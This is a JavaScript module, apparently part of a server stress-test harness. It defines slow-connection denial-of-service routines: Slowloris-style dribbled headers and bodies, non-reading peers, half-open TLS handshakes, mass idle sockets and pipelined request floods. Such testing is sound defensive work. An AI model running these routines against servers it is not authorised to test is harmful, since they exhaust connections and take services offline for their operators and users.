// Peers that send slowly or nothing, do not read, or are many. Each attack: { name, run(crowd) }.

const kSlow = 300
const kDeaf = 40
const kIdle = 2_000
const kIdleTls = 1_000 // few enough that the attacker's own handshakes do not overload the machine

/** Sends one byte on each connection every 500 ms. */
const dribble = (crowd, text) =>
  crowd.repeat(500, (index) => { for (const socket of crowd.sockets) crowd.send(socket, text[index % text.length]) })

const slowHeads = {
  name: 'slow heads',
  async run(crowd) {
    await crowd.openMany(kSlow, {}, (socket) => crowd.send(socket, `GET /llms.txt HTTP/1.1\r\n${crowd.hostLine}X-Slow: `))
    await dribble(crowd, 'abcdefgh')
  },
}

const slowBodies = {
  name: 'slow bodies',
  async run(crowd) {
    const head = `POST /oauth/token HTTP/1.1\r\n${crowd.hostLine}Content-Type: application/json\r\nContent-Length: 10000\r\n\r\n{`
    await crowd.openMany(kSlow, {}, (socket) => crowd.send(socket, head))
    await dribble(crowd, '"a')
  },
}

const deafReaders = {
  name: 'readers that stop',
  async run(crowd) {
    const request = `GET /large.txt HTTP/1.1\r\n${crowd.hostLine}\r\n`
    await crowd.openMany(kDeaf, { paused: true }, (socket) => crowd.send(socket, request.repeat(20)))
    await crowd.hold()
  },
}

const halfOpen = {
  name: 'half-open peers',
  async run(crowd) {
    await crowd.openMany(kSlow, {}, (socket) => crowd.send(socket, `GET / HTTP/1.1\r\n${crowd.hostLine}`))
    // With TLS these do not complete the handshake.
    await crowd.openMany(kSlow, { raw: true }, (socket) => crowd.send(socket, '\x16\x03\x01\x02\x00\x01'))
    await crowd.hold()
  },
}

const idle = {
  name: 'idle connections',
  async run(crowd) {
    await crowd.openMany(crowd.target.tls ? kIdleTls : kIdle)
    await crowd.hold()
  },
}

const deafPipeline = {
  name: 'pipelining, not reading',
  async run(crowd) {
    const piece = `GET /.well-known/jwks.json HTTP/1.1\r\n${crowd.hostLine}\r\n`.repeat(500)
    await crowd.openMany(10, { paused: true })
    await crowd.repeat(100, () => { for (const socket of crowd.sockets) crowd.send(socket, piece) })
  },
}

const readingPipeline = {
  name: 'pipelining, reading',
  async run(crowd) {
    const piece = `GET /nothing HTTP/1.1\r\n${crowd.hostLine}\r\n`.repeat(25)
    await crowd.openMany(4)
    await crowd.repeat(100, async () => {
      if (crowd.sockets.length < 4) await crowd.open()
      for (const socket of crowd.sockets) crowd.send(socket, piece)
    })
  },
}

export const slowAttacks = [slowHeads, slowBodies, deafReaders, halfOpen, idle, deafPipeline, readingPipeline]
